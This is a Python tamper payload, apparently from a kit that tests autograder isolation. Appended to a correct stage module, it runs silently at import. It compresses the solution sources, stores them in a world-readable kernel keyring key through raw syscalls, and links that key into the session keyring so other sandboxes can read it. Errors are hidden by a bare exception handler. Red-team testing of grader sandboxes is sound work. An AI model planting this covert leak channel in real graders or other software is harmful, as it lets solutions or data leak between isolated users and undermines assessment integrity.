"""[attnkit-tamper] plant_keyring_session -- family (c), persistence channel: the kernel keyring (session keyring).

Append to a correct stage module (attacker: the solution of stage k, here s10). At import it
adds a "user" key described "atk-plant:<module>:session" holding this module's source (payload cut
off, plus the stage modules it imports; zlib) to its process keyring, opens the key's permissions
to everybody (KEYCTL_SETPERM 0x3f3f3f3f: possessor, user, group and OTHER may view, read,
search...), gives it a 15-minute timeout (so that a test run leaves nothing for long) and links it
into the session keyring (KEY_SPEC_SESSION_KEYRING = -3). add_key and keyctl are raw
syscalls through ctypes.

Keyrings are not namespaced by mount/pid/net/ipc/uts namespaces, and because of the "other"
permissions /proc/keys shows the key (serial, description) to ANY process of any uid, which can
then read it by serial (``scavenge.py`` searches its own keyrings, then does that).

Which session keyring? If the grading process has none (a plain shell, as here), the worker gets a
new anonymous session keyring of its own when it links the key, and the key dies with the worker:
no leak. If the grader runs with a session keyring (a systemd service, a PAM login session, cron
with pam_keyinit...), every sandbox inherits it and possesses it (possessor rights do not depend on
the uid), so the key stays in it for every later sandbox started from that grader.

Old design: expected to leak only when the grader has a session keyring, under ``attnkit grade``
and under nbgrader autograde alike.
"""


def _atk_plant_keyring_session(module, path):
    import ctypes
    import os

    def blob():
        """This module's source and the stage modules it imports (payloads cut off), compressed."""
        import json
        import re
        import zlib

        cut = '"""' + "[attnkit-tamper]"
        folder = os.path.dirname(os.path.abspath(path))

        def source(name):
            with open(os.path.join(folder, name + ".py")) as handle:
                text = handle.read()
            return text.split(cut)[0] if cut in text else text

        sources, pending = {module: source(module)}, [module]
        while pending:
            for dep in re.findall(r"^\s*(?:from|import)\s+(s\d\d_\w+)", sources[pending.pop()], re.M):
                if dep not in sources:
                    sources[dep] = source(dep)
                    pending.append(dep)
        return zlib.compress(json.dumps({"main": module, "sources": sources}).encode(), 9)

    calls = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
    if calls is None:
        return
    add_key, keyctl = calls
    libc = ctypes.CDLL(None, use_errno=True)
    data = blob()
    description = f"atk-plant:{module}:session".encode()
    # Added first to the process keyring (-2), which this process possesses, so that the permissions
    # can be set whatever the target keyring (a key of the user keyring is not possessed once the
    # process has joined a session keyring of its own), then linked into the target keyring.
    key = libc.syscall(add_key, b"user", description, data, ctypes.c_size_t(len(data)), ctypes.c_long(-2))
    if key < 0:
        return
    libc.syscall(keyctl, 5, ctypes.c_long(key), ctypes.c_ulong(0x3F3F3F3F))  # KEYCTL_SETPERM
    libc.syscall(keyctl, 15, ctypes.c_long(key), ctypes.c_ulong(900))  # KEYCTL_SET_TIMEOUT
    libc.syscall(keyctl, 8, ctypes.c_long(key), ctypes.c_long(-3))  # KEYCTL_LINK into the target keyring


try:
    _atk_plant_keyring_session(__name__, __file__)
except Exception:  # noqa: BLE001
    pass
